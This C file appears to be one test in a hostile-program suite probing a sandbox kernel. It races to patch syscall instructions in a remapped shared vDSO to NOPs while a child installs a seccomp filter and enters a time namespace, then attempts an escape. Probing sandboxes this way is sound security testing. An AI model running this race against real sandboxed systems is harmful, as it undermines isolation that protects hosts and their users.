// The vDSO's place in memory that is shared: where the sentry changes its code as a task enters a time namespace, or has
// the task make calls there, another process changes it at the same moment. In the stage of installing a filter, the task
// installs one of its own.
// Seconds: 2
#include "hostile.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/auxv.h>

enum { OURS = 78, SIZE = 8192, STACK = 65536 };
static unsigned char *place, *original;

static struct sock_filter instructions[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_sched_yield, 0, 1), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | OURS),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};
static struct sock_fprog program = {sizeof instructions / sizeof *instructions, instructions};

/// Turns a new `syscall` between a mov to eax and a return into nothing.
static void changer(void) {
    int from = 0, to = SIZE - 8;
    while (1)
        for (int i = from; i < to; i++) {
            volatile unsigned char *at = place + i;
            if (at[0] != 0xb8 || at[5] != 0x0f || at[6] != 0x05 || original[i] == 0xb8) continue;
            *(volatile uint16_t *)(at + 5) = 0x9090;
            // It will be there again.
            from = i, to = i + 1;
        }
}
static int child(void *unused) {
    RAW(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
    if (RAW(SYS_sched_yield) == -OURS) succeeded("a seccomp program of its own is in force");
    escape();
    RAW(SYS_exit_group, 0);
    return 0;
}

void prepare(void) { once = true; }

static void attack(void) {
    place = (unsigned char *)getauxval(AT_SYSINFO_EHDR);
    if (!place) { say("note: no vDSO"); pause_us(100000); return; }
    // The same code at the same place, but in memory that a child shares.
    unsigned char *copy = shared_pages(SIZE, PROT_READ | PROT_WRITE | PROT_EXEC);
    memcpy(copy, place, SIZE);
    if (mremap(copy, SIZE, SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, place) != place) { say("note: the vDSO cannot be replaced"); pause_us(100000); return; }
    original = malloc(SIZE);
    memcpy(original, place, SIZE);
    racer(changer);
    if (unshare(CLONE_NEWUSER | CLONE_NEWTIME) != 0) { say("note: no time namespace"); pause_us(100000); return; }
    int fd = open("/proc/self/timens_offsets", O_WRONLY);
    if (fd < 0 || write(fd, "monotonic 1000 0", 16) < 0) { say("note: no offsets"); return; }
    close(fd);
    char *stack = malloc(STACK);
    without_vdso = true;
    while (left() > 0) {
        memcpy(place, original, SIZE);
        pid_t pid = clone(child, stack + STACK - 64, SIGCHLD, NULL);
        if (pid < 0) continue;
        double patience = now_() + 1;
        while (waitpid(pid, NULL, WNOHANG) == 0) {
            if (now_() > patience) { kill(pid, SIGKILL); break; }
            pause_us(200);
        }
        for (patience = now_() + 15; waitpid(pid, NULL, WNOHANG) == 0; pause_us(500))
            if (now_() > patience) { say("STUCK: a task killed as it enters a time namespace never ends"); return; }
        round_done();
    }
}
